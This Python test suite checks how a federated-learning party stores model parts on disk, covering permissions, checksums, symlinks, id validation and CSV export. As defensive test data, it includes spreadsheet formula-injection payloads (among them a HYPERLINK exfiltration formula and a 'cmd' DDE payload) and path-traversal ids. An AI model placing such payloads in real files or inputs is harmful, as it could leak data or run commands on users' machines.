"""A party's parts of models on disk: what was written, or one sentence why not."""

import builtins
import csv
import io
import json
import logging
import os
import re
import stat
import tracemalloc
import zipfile

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from hypothesis.extra import numpy as hnp

from vfl_flower import __version__
from vfl_flower.party import parts
from vfl_flower.party.party import PartyError

MODEL = "0123456789abcdef"
SECRET = 0x5EC4E7_5EC4E7_5EC4E7_5EC4E7_5EC4E7
PART = parts.ModelPart(
    MODEL,
    "fdskl",
    {
        "seed": SECRET,
        "bandwidth": 0.1 + 0.2,
        "encoding": {"format": 1, "columns": [{"name": "ä=1", "levels": None}]},
    },
    {"coef": np.linspace(0, 1, 12).reshape(4, 3), "rows": np.arange(5, dtype="u2")},
)


@pytest.fixture
def folder(tmp_path):
    return tmp_path / "state" / "bank"


@pytest.fixture
def file(folder):
    parts.save_part(folder, PART)
    return folder / f"{MODEL}.npz"


def refusal(folder, model=MODEL, strategy=None):
    with pytest.raises(PartyError) as caught:
        parts.load_part(folder, model, strategy)
    return checked(caught.value, folder)


def checked(error, folder):
    text = str(error)
    assert str(folder) not in text
    assert folder.name not in text
    assert str(SECRET) not in text
    assert "\n" not in text
    assert error.__cause__ is None
    return text


def about(**changes):
    right = {"format": 1, "model": MODEL, "strategy": "fdskl"}
    right |= {"settings": {}, "arrays": []}
    return {"about": np.array(json.dumps(right | changes))}


def sealed(content):
    return content + parts._checksum(content)


# --- What was written


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(),
    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
    max_leaves=10,
)
ARRAY = hnp.arrays(
    st.sampled_from(["f8", "f4", "u2", "u8", "i8", "?", ">i4", "U3"]),
    hnp.array_shapes(min_dims=0, min_side=0),
)


@settings(max_examples=20, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.dictionaries(st.text(), JSON, max_size=3),
    st.dictionaries(
        st.sampled_from(["file", "about", "a.npy", "a", ""]) | st.text(), ARRAY
    ),
)
def test_any_settings_and_arrays_come_back(folder, values, arrays):
    parts.save_part(folder, parts.ModelPart(MODEL, "fdskl", values, arrays))
    part = parts.load_part(folder, MODEL, "fdskl")
    assert (part.model, part.strategy) == (MODEL, "fdskl")
    assert part.settings == values
    assert part.arrays.keys() == arrays.keys()
    for name, array in arrays.items():
        assert part.arrays[name].dtype == array.dtype
        assert part.arrays[name].tobytes() == array.tobytes()


def test_the_file_is_an_npz_without_pickle_that_says_what_it_is(file):
    with np.load(file, allow_pickle=False) as arrays:
        about = json.loads(str(arrays["about"]))
        np.testing.assert_array_equal(arrays["array_0"], PART.arrays["coef"])
    assert (about["format"], about["arrays"]) == (1, ["coef", "rows"])
    assert about["version"] == __version__
    assert (about["model"], about["strategy"]) == (MODEL, "fdskl")
    with zipfile.ZipFile(file) as archive:
        assert re.fullmatch(rb"[0-9a-f]{64}", archive.comment)


def test_only_the_user_may_read_a_part(file, folder, tmp_path):
    """The mode of a folder that the user has made is left alone."""
    tmp_path.chmod(0o750)
    previous = os.umask(0)
    try:
        parts.save_part(tmp_path / "other", PART)
        parts.save_part(tmp_path, PART)
    finally:
        os.umask(previous)
    for made, mode in ((folder, 0o700), (tmp_path / "other", 0o700), (tmp_path, 0o750)):
        assert stat.S_IMODE(made.stat().st_mode) == mode
        assert stat.S_IMODE((made / file.name).stat().st_mode) == 0o600


def test_parts_are_listed_by_model(folder, file):
    assert parts.list_parts(folder.parent / "none") == []
    for model in ("ffffffff", "a" * 32):
        parts.save_part(folder, parts.ModelPart(model, "fdskl"))
        assert parts.load_part(folder, model).model == model
    for other in ("notes.txt", "x.part", "README.npz", "FFFFFFFF.npz", "abc.npz"):
        (folder / other).write_text("")
    assert parts.list_parts(folder) == [MODEL, "a" * 32, "ffffffff"]


def test_secrets_are_neither_printed_nor_logged(folder, caplog):
    caplog.set_level(logging.DEBUG)
    parts.save_part(folder, PART)
    part = parts.load_part(folder, MODEL)
    for text in (repr(part), str(part), caplog.text):
        assert str(SECRET) not in text
        assert "seed" not in text
        assert "coef" not in text
    assert str(folder / f"{MODEL}.npz") in caplog.text


# --- Whole or not at all


def test_a_write_that_fails_is_a_sentence(folder, file, monkeypatch, caplog):
    def fail(*_):
        raise OSError(28, "No space left")

    monkeypatch.setattr(os, "replace", fail)
    with pytest.raises(PartyError) as caught:
        parts.save_part(folder, parts.ModelPart(MODEL, "fdskl", {"seed": 2}))
    text = checked(caught.value, folder)
    assert f"local model {MODEL} cannot be written" in text
    assert "No space left" in text
    assert str(file) in caplog.text


def test_what_is_on_disk_before_the_name_changes_is_whole(folder, file, monkeypatch):
    """A machine that stops at the rename leaves the old part or the new one."""
    done = []
    fsync, replace = os.fsync, os.replace

    def synced(handle):
        fsync(handle)
        done.append(os.fstat(handle).st_size)

    def renamed(source, target):
        done.append(os.stat(source).st_size)
        replace(source, target)

    monkeypatch.setattr(os, "fsync", synced)
    monkeypatch.setattr(os, "replace", renamed)
    parts.save_part(folder, parts.ModelPart(MODEL, "fdskl", {"seed": 2}))
    assert done == [file.stat().st_size] * 2


def test_what_json_or_npz_cannot_hold_is_not_written(folder, file):
    before = file.read_bytes()
    with pytest.raises(TypeError):
        parts.save_part(folder, parts.ModelPart(MODEL, "fdskl", {"seed": object()}))
    arrays = {"a": np.array([None])}
    with pytest.raises(ValueError, match="array 'a' must not hold objects"):
        parts.save_part(folder, parts.ModelPart(MODEL, "fdskl", {}, arrays))
    assert [path.name for path in folder.iterdir()] == [file.name]
    assert file.read_bytes() == before


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write everywhere")
def test_a_folder_that_may_not_be_written_or_read(folder, file):
    folder.chmod(0o500)
    with pytest.raises(PartyError, match="Permission denied") as caught:
        parts.save_part(folder, PART)
    checked(caught.value, folder)
    file.chmod(0)
    assert "cannot be read: Permission denied" in refusal(folder)
    folder.chmod(0)
    assert "cannot be read" in refusal(folder)
    with pytest.raises(PartyError, match="state-dir of this party cannot be read"):
        parts.list_parts(folder)
    folder.chmod(0o700)


def test_a_folder_that_is_a_file_and_a_part_that_is_a_folder(folder, tmp_path):
    (place := tmp_path / "bank").write_text("secret")
    with pytest.raises(PartyError, match="cannot be written") as caught:
        parts.save_part(place, PART)
    checked(caught.value, place)
    assert "cannot be read" in refusal(place)
    with pytest.raises(PartyError, match="cannot be read"):
        parts.list_parts(place)
    (folder / f"{MODEL}.npz").mkdir(parents=True)
    assert "cannot be read: Is a directory" in refusal(folder)
    with pytest.raises(PartyError, match="cannot be written"):
        parts.save_part(folder, PART)
    assert [path.name for path in folder.iterdir()] == [f"{MODEL}.npz"]


# --- Another file than the one asked for


def test_no_part_of_that_model_says_how_many_there_are(folder, caplog):
    assert (
        "no local model ffffffff; number of local models in its state-dir: 0"
        in refusal(folder, "ffffffff")
    )
    parts.save_part(folder, PART)
    assert "its state-dir: 1" in refusal(folder, "ffffffff")
    assert str(folder / "ffffffff.npz") in caplog.text


def test_a_part_of_another_model_or_strategy_names_both(folder, file):
    (folder / "ffffffff.npz").write_bytes(file.read_bytes())
    text = refusal(folder, "ffffffff")
    assert "local model ffffffff" in text
    assert f"was written for model {MODEL}" in text
    text = refusal(folder, strategy="fk-kmeans")
    assert text.endswith("must belong to strategy 'fk-kmeans', got 'fdskl'")


@pytest.mark.parametrize(
    "model",
    [
        *("", "abc", "0123abc", "0" * 33, "0123ABCD", "0123abcg", "01234567\n"),
        *("../01234567", "/0123456", "01234567/", "٠١٢٣٤٥٦٧", "0123456."),
        *(12345678, None, b"01234567"),
    ],
)
def test_what_is_no_id_never_becomes_a_path(folder, monkeypatch, model):
    monkeypatch.setattr(builtins, "open", pytest.fail)
    monkeypatch.setattr(os, "mkdir", pytest.fail)
    words = "must be 8 to 32 lower-case hexadecimal digits"
    with pytest.raises(PartyError, match=words):
        parts.load_part(folder, model)
    with pytest.raises(PartyError, match=words):
        parts.save_part(folder, parts.ModelPart(model, "fdskl"))


# --- Damage, and links that somebody left in the folder


def damages(content):
    """Yield the content cut, or with a bit flipped, at every fifth byte."""
    rng = np.random.default_rng(1)
    for place in range(0, len(content), 5):
        flipped = bytearray(content)
        flipped[place] ^= 1 << int(rng.integers(8))
        yield from (bytes(flipped), content[:place])


def test_a_file_cut_or_flipped_anywhere_is_refused(folder, file):
    whole = file.read_bytes()
    for damaged in (*damages(whole), whole[:-1], whole + b"\0"):
        file.write_bytes(damaged)
        assert "is damaged: its checksum is wrong" in refusal(folder)
    file.write_bytes(whole)
    assert parts.load_part(folder, MODEL).settings == PART.settings


def test_no_content_with_a_right_checksum_raises_anything_else(folder, file):
    """Cut or flipped before the checksum was made, as a faulty writer would."""
    for damaged in damages(file.read_bytes()[:-64]):
        file.write_bytes(sealed(damaged))
        try:
            parts.load_part(folder, MODEL)
        except PartyError as error:
            checked(error, folder)


@pytest.mark.parametrize(
    "arrays",
    [
        {},
        *({"about": np.array(text)} for text in ("no JSON", "[]", "{}", [None])),
        {"about": np.array('{"format": 1, "model": "0123456789abcdef"}')},
        *(about(format="x"), about(format=2), about(settings=[1]), about(strategy=5)),
        about(arrays=["coef"]),
    ],
)
def test_an_npz_that_is_no_part(folder, file, arrays):
    buffer = io.BytesIO()
    np.savez(buffer, **arrays)
    file.write_bytes(sealed(buffer.getvalue()[:-2] + b"\x40\0"))
    assert "is not a local model in format 1" in refusal(folder)


def test_a_part_is_not_read_or_written_through_a_link(folder, file, tmp_path):
    file.rename(tmp_path / "elsewhere")
    file.symlink_to(tmp_path / "elsewhere")
    assert "cannot be read: it is a symbolic link" in refusal(folder)
    with pytest.raises(OSError, match="symbolic link"):
        parts.read_private(file)
    with pytest.raises(PartyError, match="it is a symbolic link"):
        parts.save_part(folder, PART)
    with pytest.raises(PartyError, match=r"the requests .* it is a symbolic link"):
        parts.write_private(file, b"", "the requests")
    assert file.is_symlink()
    assert (tmp_path / "elsewhere").stat().st_size


def test_a_part_is_sized_before_it_is_read(folder, file):
    """200 MB of zeros, with a checksum that is right."""
    content = io.BytesIO()
    np.savez_compressed(content, about=np.array("{}"), array_0=np.zeros(25 * 2**20))
    packed = content.getvalue()[:-2] + parts.CHECKSUM.to_bytes(2, "little")
    file.write_bytes(sealed(packed))
    tracemalloc.start()
    try:
        assert "not a local model in format 1" in refusal(folder)
        assert tracemalloc.get_traced_memory()[1] < 2**23
    finally:
        tracemalloc.stop()


# --- Predictions


def cells(folder, ids, values):
    target = folder / "predictions.csv"
    parts.write_predictions(target, ids, values, "the predictions")
    with target.open(newline="") as file:
        header, *rows = csv.reader(file)
    assert header == ["id", "prediction"]
    return rows


ATTACKS = [
    *('=HYPERLINK("http://x?"&B1)', "@SUM(1+1)", "+1+cmd|' /C calc'!A0", "-2+3"),
    *("\t=1+1", "\r=1", "\n=1", " =1", "\uff1d1+1", "+49 170 1"),
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_id_is_a_formula(folder, attack):
    """A spreadsheet would run it, and could send the predictions beside it away."""
    ((name, value),) = cells(folder, [attack], np.array([1.0]))
    assert (name, value) == (f"'{attack}", "1.0")


@pytest.mark.parametrize(
    "name", ["-5", "+491701", "-.5", "1e5", "007", "a=b", "", "r7"]
)
def test_numbers_and_other_texts_stay(folder, name):
    assert cells(folder, [name], np.array([-2.5])) == [[name, "-2.5"]]
    assert cells(folder, [-5], np.array(["=1+1"])) == [["-5", "'=1+1"]]


@given(st.lists(st.text("=+-@'1 \t\r\n;,\"e.", max_size=5), max_size=9, unique=True))
def test_escaped_ids_stay_distinct(names):
    """Whoever takes off the quote before a formula has the id."""
    written = [parts.in_csv(name) for name in names]
    assert len(set(written)) == len(names)


@pytest.mark.parametrize("name", ["a;=1+1", "a\t=1+1"])
def test_other_separators_split_no_cell(folder, name):
    assert cells(folder, [name], np.array([1])) == [[name, "1"]]
    text = (folder / "predictions.csv").read_text()
    assert f'"{name}"' in text
